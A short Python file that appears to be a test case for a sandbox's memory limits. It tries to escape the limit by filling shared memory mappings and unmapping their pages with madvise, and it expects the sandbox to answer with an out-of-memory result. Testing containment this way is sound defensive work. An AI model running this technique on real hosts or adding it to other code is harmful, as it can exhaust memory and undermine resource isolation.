# attack: fills shared memory and unmaps its pages, so that they count for no process (here 1.5 times its limit)
# layer: limits
# where: construct
# status: out_of_memory
# score: none
import torch

mmap, os = __import__("mmap"), torch.os
PIECE = 32 << 20


def attack():
    held = 0
    for way in (anonymous, zeros):
        try:
            shared = way(3 * int("{MEMORY_BYTES}") // 2 // PIECE * PIECE)
        except OSError:
            continue
        for start in range(0, len(shared), PIECE):
            for page in range(start, start + PIECE, 4096):
                shared[page]  # which is enough to have it made
            shared.madvise(mmap.MADV_DONTNEED, start, PIECE)
        held += len(shared)
    __import__("time").sleep(1)
    if held:
        raise RuntimeError("ESCAPED " + str(held) + " bytes")
    raise MemoryError


def anonymous(size):
    return mmap.mmap(-1, size)


def zeros(size):
    return mmap.mmap(os.open("/dev/zero", os.O_RDONLY), size, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ)
